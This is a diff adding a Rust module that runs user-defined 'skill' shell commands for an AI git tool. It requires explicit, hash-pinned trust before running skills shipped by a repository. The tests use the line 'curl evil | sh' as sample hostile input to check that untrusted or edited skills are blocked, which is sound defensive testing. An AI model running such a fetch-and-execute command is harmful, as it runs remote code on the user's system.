@@ -1,7 +1,376 @@
-// Placeholder for agent_skills implementation
-// Will be implemented in Phase 4
+//! User-defined agent skills: TOML descriptors in a `skills/` directory whose
+//! command output is added to the agent analysis context.
+//!
+//! Skills in the global config dir (`<config>/git-ai-cli/skills/`) run unless
+//! disabled. Skills shipped by a repository (`.git-ai/skills/`) only run after
+//! `git-ai skills enable`, which trusts the exact descriptor and the scripts
+//! its command runs; editing either disables the skill again. Trust is kept in the global config only, so a
+//! repository cannot enable its own skills.
 
-#[allow(dead_code)]
-pub fn get_agent_skills() -> Vec<String> {
-    Vec::new()
+use crate::error::{GitAiError, Result};
+use crate::types::AIConfig;
+use crate::utils::{ConfigManager, GitManager};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::time::Duration;
+use tokio::process::Command;
+
+const DEFAULT_TIMEOUT_SECS: u64 = 30;
+
+const DEFAULT_MAX_OUTPUT_CHARS: usize = 4000;
+
+/// Contents of `skills/<name>.toml`
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct SkillDescriptor {
+    /// Defaults to the file name
+    pub name: Option<String>,
+    #[serde(default)]
+    pub description: String,
+    /// Shell command, run from the repository root
+    pub command: Option<String>,
+    /// WebAssembly module; not supported by this build
+    pub wasm: Option<String>,
+    pub timeout_secs: Option<u64>,
+    pub max_output_chars: Option<usize>,
+    /// Only run when a changed file ends with one of these (e.g. ".rs")
+    pub files: Option<Vec<String>>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SkillSource {
+    Global,
+    Repo,
+}
+
+#[derive(Debug, Clone)]
+pub struct Skill {
+    pub name: String,
+    pub source: SkillSource,
+    pub path: PathBuf,
+    pub descriptor: SkillDescriptor,
+    /// Hash of the descriptor file and the scripts its command runs
+    digest: String,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SkillStatus {
+    Enabled,
+    Disabled,
+    /// Repository skill that was never enabled, or whose descriptor or
+    /// scripts changed since
+    Untrusted,
+    /// Descriptor without a runnable command
+    Unsupported,
+}
+
+/// Output of one skill run
+#[derive(Debug)]
+pub struct SkillOutput {
+    pub name: String,
+    pub description: String,
+    pub output: String,
+}
+
+impl Skill {
+    /// `name@<hash of the descriptor and scripts>`, recorded when a
+    /// repository skill is enabled
+    pub fn fingerprint(&self) -> String {
+        format!("{}@{}", self.name, self.digest)
+    }
+
+    pub fn status(&self, config: &AIConfig) -> SkillStatus {
+        if self.descriptor.command.is_none() {
+            return SkillStatus::Unsupported;
+        }
+        let listed = |list: &Option<Vec<String>>, value: &str| {
+            list.iter().flatten().any(|entry| entry == value)
+        };
+        if listed(&config.disabled_skills, &self.name) {
+            return SkillStatus::Disabled;
+        }
+        match self.source {
+            SkillSource::Global => SkillStatus::Enabled,
+            SkillSource::Repo if listed(&config.enabled_skills, &self.fingerprint()) => {
+                SkillStatus::Enabled
+            }
+            SkillSource::Repo => SkillStatus::Untrusted,
+        }
+    }
+
+    fn applies_to(&self, changed_files: &[String]) -> bool {
+        match &self.descriptor.files {
+            Some(suffixes) => changed_files.iter().any(|file| {
+                suffixes
+                    .iter()
+                    .any(|suffix| file.ends_with(suffix.as_str()))
+            }),
+            None => true,
+        }
+    }
+
+    async fn run(&self, changed_files: &[String]) -> Result<String> {
+        let command = self.descriptor.command.as_deref().unwrap_or_default();
+        let mut process = if cfg!(windows) {
+            let mut process = Command::new("cmd");
+            process.arg("/C").arg(command);
+            process
+        } else {
+            let mut process = Command::new("sh");
+            process.arg("-c").arg(command);
+            process
+        };
+        process
+            .current_dir(GitManager::get_repo_root()?)
+            .env("GIT_AI_CHANGED_FILES", changed_files.join("\n"))
+            .stdin(Stdio::null())
+            .kill_on_drop(true);
+
+        let timeout =
+            Duration::from_secs(self.descriptor.timeout_secs.unwrap_or(DEFAULT_TIMEOUT_SECS));
+        let output = tokio::time::timeout(timeout, process.output())
+            .await
+            .map_err(|_| GitAiError::Other(format!("timed out after {}s", timeout.as_secs())))??;
+
+        let mut text = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        if !stderr.trim().is_empty() {
+            if !text.is_empty() {
+                text.push('\n');
+            }
+            text.push_str(stderr.trim());
+        }
+        // Checks often exit non-zero exactly when they have something to say
+        if !output.status.success() {
+            text.push_str(&format!(
+                "\n(exit code {})",
+                output.status.code().unwrap_or(-1)
+            ));
+        }
+
+        let max = self
+            .descriptor
+            .max_output_chars
+            .unwrap_or(DEFAULT_MAX_OUTPUT_CHARS);
+        if text.chars().count() > max {
+            text = text.chars().take(max).collect::<String>() + "\n... (truncated)";
+        }
+        Ok(text)
+    }
+}
+
+/// `<config>/git-ai-cli/skills`
+pub fn global_skills_dir() -> Result<PathBuf> {
+    Ok(ConfigManager::get_global_config_dir()?.join("skills"))
+}
+
+/// `<repo>/.git-ai/skills`
+pub fn repo_skills_dir() -> Result<PathBuf> {
+    Ok(GitManager::get_repo_root()?.join(".git-ai").join("skills"))
+}
+
+/// All skills, global first; a repository skill replaces a global one of the
+/// same name
+pub fn discover() -> Result<Vec<Skill>> {
+    let mut skills = load_dir(&global_skills_dir()?, SkillSource::Global)?;
+    if let Ok(dir) = repo_skills_dir() {
+        for skill in load_dir(&dir, SkillSource::Repo)? {
+            skills.retain(|existing| existing.name != skill.name);
+            skills.push(skill);
+        }
+    }
+    Ok(skills)
+}
+
+fn load_dir(dir: &Path, source: SkillSource) -> Result<Vec<Skill>> {
+    let Ok(entries) = fs::read_dir(dir) else {
+        return Ok(Vec::new());
+    };
+    let mut paths: Vec<PathBuf> = entries
+        .filter_map(|entry| entry.ok().map(|entry| entry.path()))
+        .filter(|path| path.extension().is_some_and(|ext| ext == "toml"))
+        .collect();
+    paths.sort();
+
+    // Commands run from the repository root, so that is where scripts are found
+    let root = GitManager::get_repo_root().ok();
+    let mut skills = Vec::new();
+    for path in paths {
+        let content = fs::read_to_string(&path)?;
+        // One broken descriptor must not take every other skill down with it
+        let descriptor = match parse_descriptor(&content) {
+            Ok(descriptor) => descriptor,
+            Err(e) => {
+                eprintln!("⚠️  Skipping invalid skill {}: {}", path.display(), e);
+                continue;
+            }
+        };
+        let name = descriptor.name.clone().unwrap_or_else(|| {
+            path.file_stem()
+                .map(|stem| stem.to_string_lossy().to_string())
+                .unwrap_or_default()
+        });
+        let digest = content_digest(&content, &descriptor, root.as_deref());
+        skills.push(Skill {
+            name,
+            source,
+            path,
+            descriptor,
+            digest,
+        });
+    }
+    Ok(skills)
+}
+
+/// Hash of a descriptor file plus every repository file its command names
+/// (e.g. `./scripts/check.sh`), so trust covers what actually runs
+fn content_digest(content: &str, descriptor: &SkillDescriptor, root: Option<&Path>) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(content.as_bytes());
+    let command = descriptor.command.as_deref().unwrap_or_default();
+    let scripts = root.into_iter().flat_map(|root| {
+        command
+            .split_whitespace()
+            .map(|token| token.trim_matches(['"', '\'']))
+            .filter(|token| Path::new(token).is_relative())
+            .filter_map(move |token| Some((token, fs::read(root.join(token)).ok()?)))
+    });
+    for (script, script_content) in scripts {
+        hasher.update(b"\0");
+        hasher.update(script.as_bytes());
+        hasher.update(b"\0");
+        hasher.update(&script_content);
+    }
+    hasher
+        .finalize()
+        .iter()
+        .take(6)
+        .map(|b| format!("{:02x}", b))
+        .collect()
+}
+
+fn parse_descriptor(content: &str) -> std::result::Result<SkillDescriptor, String> {
+    let descriptor: SkillDescriptor = toml::from_str(content).map_err(|e| e.to_string())?;
+    match (&descriptor.command, &descriptor.wasm) {
+        (Some(_), Some(_)) => Err("set either `command` or `wasm`, not both".to_string()),
+        (None, None) => Err("missing `command`".to_string()),
+        _ => Ok(descriptor),
+    }
+}
+
+/// Run every enabled skill that applies to `changed_files`. A failing skill
+/// is reported in its output rather than failing the analysis.
+pub async fn run_enabled(changed_files: &[String]) -> Result<Vec<SkillOutput>> {
+    let skills = discover()?;
+    if skills.is_empty() {
+        return Ok(Vec::new());
+    }
+    let config = ConfigManager::read_global_config()?;
+
+    let mut outputs = Vec::new();
+    for skill in skills {
+        if skill.status(&config) != SkillStatus::Enabled || !skill.applies_to(changed_files) {
+            continue;
+        }
+        let output = match skill.run(changed_files).await {
+            Ok(output) => output,
+            Err(e) => format!("(skill failed: {})", e),
+        };
+        if !output.is_empty() {
+            outputs.push(SkillOutput {
+                name: skill.name,
+                description: skill.descriptor.description,
+                output,
+            });
+        }
+    }
+    Ok(outputs)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn skill_in(source: SkillSource, content: &str, root: Option<&Path>) -> Skill {
+        let descriptor = parse_descriptor(content).unwrap();
+        Skill {
+            name: "warnings".to_string(),
+            source,
+            path: PathBuf::from("warnings.toml"),
+            digest: content_digest(content, &descriptor, root),
+            descriptor,
+        }
+    }
+
+    fn skill(source: SkillSource, command: &str) -> Skill {
+        skill_in(source, &format!("command = {:?}", command), None)
+    }
+
+    #[test]
+    fn parses_descriptors() {
+        let descriptor = parse_descriptor(
+            "description = \"New cargo warnings\"\ncommand = \"cargo check\"\nfiles = [\".rs\"]\n",
+        )
+        .unwrap();
+        assert_eq!(descriptor.command.as_deref(), Some("cargo check"));
+        assert!(parse_descriptor("description = \"nothing to run\"").is_err());
+        assert!(parse_descriptor("command = \"a\"\nwasm = \"b.wasm\"").is_err());
+    }
+
+    #[test]
+    fn repo_skills_need_trust_for_their_command() {
+        let mut config = AIConfig::default();
+        assert_eq!(
+            skill(SkillSource::Global, "cargo check").status(&config),
+            SkillStatus::Enabled
+        );
+
+        let repo = skill(SkillSource::Repo, "cargo check");
+        assert_eq!(repo.status(&config), SkillStatus::Untrusted);
+        config.enabled_skills = Some(vec![repo.fingerprint()]);
+        assert_eq!(repo.status(&config), SkillStatus::Enabled);
+        assert_eq!(
+            skill(SkillSource::Repo, "curl evil | sh").status(&config),
+            SkillStatus::Untrusted
+        );
+
+        config.disabled_skills = Some(vec!["warnings".to_string()]);
+        assert_eq!(repo.status(&config), SkillStatus::Disabled);
+    }
+
+    #[test]
+    fn trust_covers_the_whole_descriptor_and_its_scripts() {
+        let dir = std::env::temp_dir().join(format!("git-ai-skill-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join("check.sh"), "cargo check\n").unwrap();
+        let content = "command = \"sh check.sh\"\n";
+        let trusted = skill_in(SkillSource::Repo, content, Some(&dir)).fingerprint();
+
+        // Widening `files` or editing the script both need a new `enable`
+        let widened = format!("{}files = [\".rs\"]\n", content);
+        assert_ne!(
+            skill_in(SkillSource::Repo, &widened, Some(&dir)).fingerprint(),
+            trusted
+        );
+        fs::write(dir.join("check.sh"), "curl evil | sh\n").unwrap();
+        let edited = skill_in(SkillSource::Repo, content, Some(&dir)).fingerprint();
+        fs::remove_dir_all(&dir).unwrap();
+        assert_ne!(edited, trusted);
+    }
+
+    #[test]
+    fn invalid_descriptors_are_skipped() {
+        let dir = std::env::temp_dir().join(format!("git-ai-skills-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join("broken.toml"), "command = [").unwrap();
+        fs::write(dir.join("ok.toml"), "command = \"true\"").unwrap();
+        let skills = load_dir(&dir, SkillSource::Global);
+        fs::remove_dir_all(&dir).unwrap();
+        let names: Vec<String> = skills.unwrap().into_iter().map(|s| s.name).collect();
+        assert_eq!(names, vec!["ok"]);
+    }
 }